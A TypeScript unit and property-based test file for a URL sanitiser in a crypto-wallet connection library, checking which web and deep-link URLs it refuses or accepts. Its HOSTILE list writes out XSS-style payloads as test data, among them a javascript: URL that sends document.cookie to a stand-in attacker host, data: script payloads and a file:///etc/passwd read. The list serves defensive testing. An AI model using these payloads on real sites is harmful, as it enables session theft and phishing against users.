import fc from 'fast-check'
import { describe, expect, it } from 'vitest'
import { z } from 'zod'
import { MESSAGES } from './errors.ts'
import { deepLinkScheme, isLoopbackHost, safeHref, toSafeUrl, UnsafeUrlError } from './safeUrl.ts'
import { safeMobileLinkSchema, safeWebUrlSchema, UNSAFE_URL_ISSUE } from './safeUrlSchema.ts'
import { getWalletsResponseSchema } from './api/catalogue.ts'

/** URLs an attacker would put where Portico navigates: none may ever come out of the gate. */
const HOSTILE = [
  'javascript:alert(1)',
  'JavaScript:alert(1)',
  'JAVASCRIPT:alert(document.domain)',
  ' javascript:alert(1)',
  '\u0000javascript:alert(1)',
  '\u0001javascript:alert(1)',
  '\u001fjavascript:alert(1)',
  '\tjavascript:alert(1)',
  '\njavascript:alert(1)',
  'java\tscript:alert(1)',
  'java\nscript:alert(1)',
  'java\rscript:alert(1)',
  'jav&#x09;ascript:alert(1)',
  'javascript://%0aalert(1)',
  'javascript://https://wallet.example/%0aalert(1)',
  'javascript:fetch("https://evil.example/?c="+document.cookie)',
  '\u00a0javascript:alert(1)',
  'javascript:alert(1)\u2028',
  'data:text/html,<script>alert(1)</script>',
  'data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==',
  'DATA:text/html,<script>alert(1)</script>',
  ' data:text/html,x',
  'vbscript:msgbox(1)',
  'VBScript:msgbox(1)',
  'blob:https://dapp.example/0b7c5f3e-1111-2222-3333-444444444444',
  'file:///etc/passwd',
  'FILE:///C:/Windows/win.ini',
  'filesystem:https://dapp.example/temporary/x',
  'about:blank',
  'view-source:https://dapp.example',
  'http://evil.example/phish',
  'http://127.0.0.1.evil.example/',
  'http://localhost.evil.example/',
  'https://metamask.io@evil.example/',
  'https://user:password@wallet.example/',
  'ftp://files.example/x',
  'ws://relay.example',
  'wss://relay.example',
  'intent://scan/#Intent;scheme=zxing;end',
  'metamask://wc?uri=x',
  '//evil.example/path',
  '/relative/path',
  'evil.example',
  '',
  'https://',
  'https://:443/',
  `https://long.example/${'a'.repeat(20_000)}`,
]

describe('toSafeUrl: the gate for every URL Portico opens', () => {
  it.each(HOSTILE.map((u) => [JSON.stringify(u).slice(0, 80), u]))('refuses %s as a web link, with the loopback exception on', (_, raw) => {
    const refused = toSafeUrl(raw, { kind: 'web', allowLoopbackHttp: true })
    expect(refused).toBeInstanceOf(UnsafeUrlError)
    expect((refused as UnsafeUrlError).shortMessage).toBe(MESSAGES.somethingWentWrong)
    expect(safeHref(raw, { allowLoopbackHttp: true })).toBeNull()
  })

  it.each(HOSTILE.filter((u) => !u.startsWith('metamask:')).map((u) => [JSON.stringify(u).slice(0, 80), u]))('refuses %s as a wallet deep link, whatever scheme the wallet claims', (_, raw) => {
    for (const allowedScheme of ['metamask', 'javascript', 'data:', 'vbscript://', 'blob', 'file', 'http', 'JavaScript']) {
      expect(toSafeUrl(raw, { kind: 'walletDeepLink', allowedScheme, allowLoopbackHttp: true })).toBeInstanceOf(UnsafeUrlError)
    }
  })

  it('refuses what is not a string', () => {
    for (const value of [undefined, null, 42, {}, ['https://a.example'], new URL('https://a.example')]) expect(toSafeUrl(value)).toBeInstanceOf(UnsafeUrlError)
  })

  it('opens https URLs, normalised, with the query and fragment kept', () => {
    const safe = toSafeUrl('HTTPS://Onramp.Example/buy?amount=50&to=0xabc#step')
    expect(safe).toBeInstanceOf(URL)
    expect((safe as URL).href).toBe('https://onramp.example/buy?amount=50&to=0xabc#step')
    expect(safeHref('https://explorer.example/address/0xabc')).toBe('https://explorer.example/address/0xabc')
  })

  it('opens http only on a loopback host, and only when asked to', () => {
    for (const raw of ['http://127.0.0.1:8789/onramp', 'http://127.5.6.7/', 'http://localhost:5173/x', 'http://[::1]:8080/', 'http://2130706433/', 'http://0x7f.1/']) {
      expect(safeHref(raw, { allowLoopbackHttp: true })).not.toBeNull()
      expect(safeHref(raw)).toBeNull()
    }
    expect(safeHref('http://10.0.0.1/', { allowLoopbackHttp: true })).toBeNull()
    expect(safeHref('http://128.0.0.1/', { allowLoopbackHttp: true })).toBeNull()
  })

  it('carries the caller’s SPEC.md §8 message and says why in its details', () => {
    const refused = toSafeUrl('javascript:alert(1)', { message: MESSAGES.embeddedDefaultError }) as UnsafeUrlError
    expect(refused.shortMessage).toBe('An error occurred')
    expect(refused.details).toContain("'javascript:'")
    expect(refused.toJSON()).toMatchObject({ name: 'UnsafeUrlError', message: 'An error occurred' })
  })
})

describe('wallet deep links', () => {
  it('take the wallet’s own scheme (from its mobile link), a web link, and nothing else', () => {
    const scheme = deepLinkScheme('metamask://')
    expect(scheme).toBe('metamask:')
    expect(safeHref('metamask://wc?uri=wc%3Aabc%402', { kind: 'walletDeepLink', allowedScheme: scheme })).toBe('metamask://wc?uri=wc%3Aabc%402')
    expect(safeHref('MetaMask://wc?uri=x', { kind: 'walletDeepLink', allowedScheme: 'metamask' })).toBe('metamask://wc?uri=x')
    expect(safeHref('rainbow://wc?uri=x', { kind: 'walletDeepLink', allowedScheme: scheme })).toBeNull()
    expect(safeHref('https://metamask.app.link/wc?uri=x', { kind: 'walletDeepLink', allowedScheme: scheme })).toBe('https://metamask.app.link/wc?uri=x')
    // A custom scheme is never a web link.
    expect(safeHref('metamask://wc?uri=x', { kind: 'web', allowedScheme: scheme })).toBeNull()
    expect(safeHref('metamask://wc?uri=x', { kind: 'walletDeepLink' })).toBeNull()
  })

  it('never counts a forbidden or web scheme as a wallet’s own', () => {
    for (const link of [
      'javascript://',
      'JavaScript:',
      'data:',
      'vbscript://',
      'blob:',
      'file://',
      'http://x.example',
      'https://x.example',
      'wss://x',
      'intent://x',
      '',
      null,
      '1bad://',
      ' metamask://',
    ]) {
      expect(deepLinkScheme(link)).toBeNull()
    }
  })
})

describe('isLoopbackHost', () => {
  it('is 127.0.0.0/8, localhost and [::1] only', () => {
    expect(['127.0.0.1', '127.255.255.254', 'localhost', 'LOCALHOST', 'localhost.', '[::1]'].map(isLoopbackHost)).toEqual([true, true, true, true, true, true])
    expect(['127.0.0.1.nip.io', '127.0.0.256', '128.0.0.1', '0.0.0.0', 'localhost.example', '[::2]', 'example.com'].map(isLoopbackHost).some(Boolean)).toBe(false)
  })
})

describe('the schemas’ refinements', () => {
  const schema = z.object({ url: safeWebUrlSchema() })
  it.each(HOSTILE.map((u) => [JSON.stringify(u).slice(0, 80), u]))('a web URL field refuses %s', (_, url) => {
    const parsed = schema.safeParse({ url })
    expect(parsed.success).toBe(false)
    expect(parsed.error?.issues[0]?.message).toBe(UNSAFE_URL_ISSUE)
  })
  it('a web URL field takes https and loopback http; without the loopback exception, https only', () => {
    expect(schema.parse({ url: 'https://pay.example/x?y=1' }).url).toBe('https://pay.example/x?y=1')
    expect(schema.parse({ url: 'http://127.0.0.1:8789/onramp' }).url).toBe('http://127.0.0.1:8789/onramp')
    expect(safeWebUrlSchema({ allowLoopbackHttp: false }).safeParse('http://127.0.0.1:8789/').success).toBe(false)
  })
  it('a mobile link takes the wallet’s own scheme or a web link, never a forbidden one', () => {
    const link = safeMobileLinkSchema()
    for (const ok of ['metamask://', 'trust:', 'rainbow://wc', 'https://metamask.app.link/', 'http://127.0.0.1:8791/']) expect(link.safeParse(ok).success).toBe(true)
    for (const bad of HOSTILE.filter((u) => !u.startsWith('metamask:'))) expect(link.safeParse(bad).success, bad).toBe(false)
  })
})

describe('the catalogue’s wallet links', () => {
  const wallet = (links: { mobile_link?: string | null; desktop_link?: string | null; webapp_link?: string | null }) => ({
    id: 'w',
    name: 'W',
    image_id: null,
    rdns: null,
    chains: [],
    mobile_link: null,
    desktop_link: null,
    webapp_link: null,
    ...links,
  })
  it('drops a link Portico may not open (the wallet stays listed) and keeps the others', () => {
    const page = getWalletsResponseSchema.parse({
      count: 3,
      data: [
        wallet({ mobile_link: 'javascript:alert(1)//', desktop_link: 'data:text/html,x', webapp_link: 'https://app.wallet.example' }),
        wallet({ mobile_link: 'metamask://', desktop_link: 'metamask-desktop://', webapp_link: 'http://evil.example' }),
        wallet({ mobile_link: 'http://127.0.0.1:8791/', webapp_link: 'http://127.0.0.1:8791/' }),
      ],
    })
    expect(page.data.map((w) => [w.mobile_link, w.desktop_link, w.webapp_link])).toEqual([
      [null, null, 'https://app.wallet.example'],
      ['metamask://', null, null],
      ['http://127.0.0.1:8791/', null, 'http://127.0.0.1:8791/'],
    ])
  })
})

describe('generated URLs (fast-check)', () => {
  const FORBIDDEN = ['javascript', 'data', 'vbscript', 'blob', 'file']
  /** A forbidden scheme in random case, with tabs, newlines or control characters put in and around it. */
  const disguised = fc
    .tuple(
      fc.constantFrom(...FORBIDDEN),
      fc.array(fc.boolean(), { minLength: 10, maxLength: 10 }),
      fc.array(fc.constantFrom('', '\t', '\n', '\r', '\u0000', '\u001f', ' ', '\u000b', '\u000c'), { minLength: 12, maxLength: 12 }),
      fc.string(),
    )
    .map(([scheme, upper, noise, rest]) => {
      const cased = [...scheme].map((c, i) => (upper[i % upper.length] ? c.toUpperCase() : c))
      return `${noise[0]}${cased.map((c, i) => `${c}${noise[(i % 10) + 1]}`).join('')}:${noise[11]}${rest}`
    })

  it('a forbidden scheme, however disguised, never comes out, whatever the options', () => {
    fc.assert(
      fc.property(disguised, fc.constantFrom('web', 'walletDeepLink') as fc.Arbitrary<'web' | 'walletDeepLink'>, fc.constantFrom(...FORBIDDEN, 'metamask', undefined), (raw, kind, allowedScheme) => {
        expect(toSafeUrl(raw, { kind, allowedScheme, allowLoopbackHttp: true })).toBeInstanceOf(UnsafeUrlError)
      }),
      { numRuns: 3000 },
    )
  })

  it('whatever the string, the answer is an https URL, loopback http, or a typed refusal', () => {
    fc.assert(
      fc.property(fc.oneof(fc.string(), fc.webUrl({ withQueryParameters: true, withFragments: true }), disguised), (raw) => {
        const safe = toSafeUrl(raw, { allowLoopbackHttp: true })
        if (safe instanceof UnsafeUrlError) {
          expect(safe.shortMessage).toBe(MESSAGES.somethingWentWrong)
          return
        }
        expect(safe.protocol === 'https:' || (safe.protocol === 'http:' && isLoopbackHost(safe.hostname))).toBe(true)
        expect(safe.username + safe.password).toBe('')
      }),
      { numRuns: 3000 },
    )
  })
})
